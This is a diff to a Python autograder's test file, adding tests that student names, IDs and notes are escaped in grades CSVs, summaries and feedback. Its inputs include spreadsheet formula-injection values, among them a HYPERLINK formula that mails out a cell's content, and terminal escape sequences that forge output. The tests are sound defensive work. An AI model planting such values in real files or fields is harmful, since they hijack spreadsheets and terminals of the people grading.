@@ -5,14 +5,26 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 from pathlib import Path
 
 from autograder import load_assignment
 from autograder._batch import grade_folder
-from autograder._reports import gradebook_status, gradebook_text
+from autograder._manifest import load_manifest
+from autograder._plain import cell, printable
+from autograder._reports import (
+    Tally,
+    feedback_text,
+    gradebook_status,
+    gradebook_text,
+    mistakes_text,
+    summary_text,
+    write_reports,
+)
 from autograder._results import SubmissionResult
 from autograder._results import TestResult as BoardResult  # (not collected as a test)
 from reference_solutions import ReferenceAnswers, answer_key, reference_program
+from tests.autograder.test_impersonation import corpus, put
 
 ANSWERS = ReferenceAnswers()
 
@@ -142,3 +154,106 @@ def test_grades_csv_says_which_boards_crashed_timed_out_or_could_not_be_read(tmp
         f"timed out on {', '.join(names[:2])}; not run on {', '.join(names[2:])}"
     )
     assert table["notes"]["status"] == "error" and "notebook" in table["notes"]["problems"]
+
+
+# --- what students choose in a name: formulas and escapes ---------------------------------
+
+
+def test_printable_escapes_what_a_terminal_acts_on_and_nothing_else():
+    assert printable("\x1b]0;pwned\x07") == "\\x1b]0;pwned\\x07"
+    assert printable("a\rb\nc\x9b31m\x7f") == "a\\rb\\nc\\x9b31m\\x7f"
+    assert printable("\u202eyp.txt\u2066") == "\\u202eyp.txt\\u2066"
+    assert printable("not utf-8 \udcff") == "not utf-8 \\udcff"
+    kept = "Jos\u00e9 \u00c5berg\t\u00e9l\u00e8ve \u5b66\u751f \U0001f600 \\x1b"
+    assert printable(kept) == kept
+
+
+def test_cell_puts_a_quote_before_a_formula_and_leaves_other_text():
+    for text in ("=1+1", "+1+1", "-2", "@SUM(A1)", "\t=1", " =1", "\n=1", "\uff1d1"):
+        assert cell(text).startswith("'"), text
+    assert cell("\r=1") == "\\r=1"  # escaped, so no longer a formula
+    for text in ("ann", "2.5", "a=1", "graded", "", "Jos\u00e9"):
+        assert cell(text) == text
+    assert cell("=x\x1b[2J") == "'=x\\x1b[2J"
+    assert cell("two\nlines\r") == "two\nlines\\r"  # a cell may hold lines, not a return
+
+
+def test_formula_names_from_files_stay_text_in_grades_csv(tmp_path: Path):
+    program, names = corpus("sheet_formulas")
+    folder = tmp_path / "subs"
+    folder.mkdir()
+    for name in names:
+        put(folder, name, program)
+    (folder / "ann.py").write_text(reference_program("classic"))
+    batch = grade_folder("classic", folder, tmp_path / "out", answers=ANSWERS,
+                         cases=answer_key("classic", hidden=False), isolation="process",
+                         workers=2)  # fmt: skip
+    assert {r.student for r in batch.results} >= {v for v in names.values() if v}
+    with open(tmp_path / "out" / "grades.csv", newline="", encoding="utf-8") as file:
+        table = list(csv.DictReader(file))
+    assert len(table) == len(names) + 1
+    for row in table:
+        for key in ("student", "problems", "status"):
+            assert not row[key].lstrip().startswith(("=", "+", "-", "@", "\t")), row
+        for key in ("score", "max_score", "public")[: 2 if row["status"] == "error" else 3]:
+            float(row[key])  # a number, as the grader wrote it
+    students = {row["student"] for row in table}
+    assert {f"'{v}" for v in names.values() if v} | {"ann"} <= students
+    (refused,) = [row for row in table if row["status"] == "error"]
+    assert refused["problems"].startswith("'=1+1_22222_assignsubmission_file_x_111")
+    assert next(r for r in table if r["student"] == "ann")["score"] == "25.00"
+
+
+def test_formula_ids_from_a_manifest_stay_text_in_grades_csv(tmp_path: Path):
+    board = {"goal": 30, "jumps": [[3, 12], [17, 5]]}
+    ids = ["-2", "@SUM(A1)", '=HYPERLINK("mailto:x@x.example?body="&B2,"appeal")']
+    manifest = tmp_path / "manifest.json"
+    students = [{"id": i, "board": board} for i in [*ids, "+1+1"]]
+    manifest.write_text(json.dumps({"format": 1, "assignment": "classic", "students": students}))
+    folder = tmp_path / "subs"
+    folder.mkdir()
+    for student in ids:
+        (folder / f"{student}.py").write_text(reference_program("classic"))
+    (folder / "=cmd.py").write_text("print(1)\n")  # matches no one: an error row
+    batch = grade_folder("classic", folder, tmp_path / "out", answers=ANSWERS,
+                         cases=answer_key("classic", hidden=False), isolation="process",
+                         manifest=load_manifest(manifest, "classic"))  # fmt: skip
+    assert sorted(r.student for r in batch.results if r.status == "graded") == sorted(ids)
+    with open(tmp_path / "out" / "grades.csv", newline="", encoding="utf-8") as file:
+        table = {row["student"]: row for row in csv.DictReader(file)}
+    assert set(table) == {f"'{i}" for i in [*ids, "=cmd"]}
+    for student in ids:
+        assert table[f"'{student}"]["score"] == "25.00"
+    assert table["'=cmd"]["problems"].startswith("'=cmd.py: matches no student")
+
+
+def test_mistakes_csv_text_cells_are_safe_and_its_counts_numbers():
+    rows = [Tally("mistake", "", "=cmd", 2, 5, 3, "@SUM(A1)\x1b[2J"),
+            Tally("entry", "-board", "+square 1", 1, 4)]  # fmt: skip
+    table = list(csv.reader(io.StringIO(mistakes_text(rows), newline="")))
+    assert table[1] == ["mistake", "", "'=cmd", "2", "5", "3", "'@SUM(A1)\\x1b[2J"]
+    assert table[2] == ["entry", "'-board", "'+square 1", "1", "4", "", ""]
+
+
+def test_summary_and_feedback_show_names_escaped():
+    result = SubmissionResult.failed("\x1b]0;x\x07", "subs/\x1b]0;x\x07.py", "classic", 25.0,
+                                     "\x1b]0;x\x07.py: \x1b[2J\rscore 100")  # fmt: skip
+    notes = ["skipped HW_\x1b[8m_attempt_2026-01-01-00-00-00.txt: a receipt", "a\nnote: forged"]
+    summary = summary_text([result], notes)
+    assert "\x1b" not in summary and "\r" not in summary
+    assert "note: skipped HW_\\x1b[8m_attempt" in summary
+    assert "note: a\\nnote: forged" in summary  # one note stays one line
+    feedback = feedback_text(result, "Classic")
+    assert "\x1b" not in feedback and "\r" not in feedback
+    assert "student: \\x1b]0;x\\x07" in feedback and "\\x1b[2J\\rscore 100" in feedback
+
+
+def test_reports_are_written_for_a_name_that_is_not_utf8(tmp_path: Path):
+    # A file name with a byte that is not UTF-8 arrives as a lone surrogate, which no
+    # strict encoder writes: the gradebook and the feedback must be written all the same.
+    result = SubmissionResult.failed("a\udcff", "subs/a\udcff.py", "classic", 25.0, "a\udcff")
+    assert write_reports(tmp_path, [result]) == []
+    grades = (tmp_path / "grades.csv").read_text(encoding="utf-8")
+    assert "a\\udcff" in grades
+    (feedback,) = (tmp_path / "feedback").iterdir()
+    assert "student: a\\udcff" in feedback.read_text(encoding="utf-8")
